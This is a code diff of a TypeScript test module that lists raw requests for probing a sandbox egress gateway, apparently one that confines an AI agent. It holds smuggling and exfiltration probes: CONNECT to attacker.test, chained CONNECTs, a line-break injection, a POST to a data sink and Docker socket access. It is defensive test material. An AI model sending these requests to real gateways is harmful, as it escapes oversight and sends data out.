@@ -114,7 +114,7 @@ const raw = (name: string, send: string): Attempt => ({
 });
 
 /** Through the gateway, by what it may take for something else. */
-function throughGateway(at: Places): readonly Attempt[] {
+function tunnelsThroughGateway(at: Places): readonly Attempt[] {
   const tunnel = (name: string, authority: string, sni = at.allowed): Attempt => ({
     ...raw(name, connect(authority)),
     sni,
@@ -158,17 +158,23 @@ function throughGateway(at: Places): readonly Attempt[] {
     tunnel('no name in TLS', `${allowed}:443`, ''),
     { ...raw('no TLS in a tunnel', connect(`${allowed}:443`)), bytesAfter: get('/', allowed) },
     { ...raw('SSH in a tunnel', connect(`${allowed}:443`)), bytesAfter: 'SSH-2.0-OpenSSH_9.9\r\n' },
-    raw('GET with a whole URL', get(`http://${host}:${at.tcp}/`, `${host}:${at.tcp}`)),
+  ];
+}
+
+/** The same by requests that are none for a tunnel, or more than one. */
+function requestsThroughGateway({ allowed, host, tcp }: Places): readonly Attempt[] {
+  return [
+    raw('GET with a whole URL', get(`http://${host}:${tcp}/`, `${host}:${tcp}`)),
     raw('GET of a host of the list', get(`http://${allowed}/`, allowed)),
     raw('GET with https', get('https://api.github.com/', 'api.github.com')),
     raw(
       'POST to the sink by Host',
-      `POST /upload HTTP/1.1\r\nHost: ${host}:${at.tcp}\r\nContent-Length: 1\r\n\r\nx`,
+      `POST /upload HTTP/1.1\r\nHost: ${host}:${tcp}\r\nContent-Length: 1\r\n\r\nx`,
     ),
     raw(
       'a websocket',
       get(
-        `http://${host}:${at.tcp}/`,
+        `http://${host}:${tcp}/`,
         host,
         'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eA==\r\nSec-WebSocket-Version: 13\r\n',
       ),
@@ -177,14 +183,14 @@ function throughGateway(at: Places): readonly Attempt[] {
       'an upgrade to HTTP/2',
       get('/', host, 'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\n'),
     ),
-    raw('a second CONNECT behind a refused one', connect('attacker.test:443') + connect(`${host}:${at.tcp}`)),
-    raw('a CONNECT behind a GET', `GET / HTTP/1.1\r\nHost: x\r\n\r\n${connect(`${host}:${at.tcp}`)}`),
+    raw('a second CONNECT behind a refused one', connect('attacker.test:443') + connect(`${host}:${tcp}`)),
+    raw('a CONNECT behind a GET', `GET / HTTP/1.1\r\nHost: x\r\n\r\n${connect(`${host}:${tcp}`)}`),
     raw(
       'a CONNECT with a body',
-      `CONNECT ${host}:${at.tcp} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
+      `CONNECT ${host}:${tcp} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
     ),
     raw('a line break in the target', `CONNECT attacker.test:443\nHost: ${allowed}:443 HTTP/1.1\r\n\r\n`),
-    raw('HTTP/1.0', `CONNECT ${host}:${at.tcp} HTTP/1.0\r\n\r\n`),
+    raw('HTTP/1.0', `CONNECT ${host}:${tcp} HTTP/1.0\r\n\r\n`),
     raw('HTTP/2 without a word before', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
     raw('another socket through a path', get('http://unix:/var/run/docker.sock:/_ping', 'x')),
   ];
@@ -192,7 +198,7 @@ function throughGateway(at: Places): readonly Attempt[] {
 
 /** Every attempt. The last ones ask a gateway for what it has to refuse. */
 export function attemptsAt(places: Places): readonly Attempt[] {
-  return [...direct(places), ...throughGateway(places)];
+  return [...direct(places), ...tunnelsThroughGateway(places), ...requestsThroughGateway(places)];
 }
 
 /** What an agent may do. */
